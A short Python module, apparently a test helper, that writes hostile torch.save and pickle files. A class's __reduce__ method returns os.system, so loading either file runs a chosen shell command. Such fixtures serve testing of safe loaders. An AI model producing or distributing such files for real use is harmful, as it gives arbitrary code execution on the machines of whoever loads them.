"""Files that run a command when an unwary reader loads them."""

from __future__ import annotations

import os
import pickle
from pathlib import Path

import torch


class _Command:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self._command,)


def write_hostile_file(path: Path, command: str) -> None:
    """Write a file of `torch.save` that runs a shell command when it is unpickled."""
    torch.save({"module": _Command(command)}, path)


def write_hostile_pickle(path: Path, command: str) -> None:
    """Write a bare pickle that runs a shell command when it is unpickled."""
    path.write_bytes(pickle.dumps(_Command(command), protocol=2))
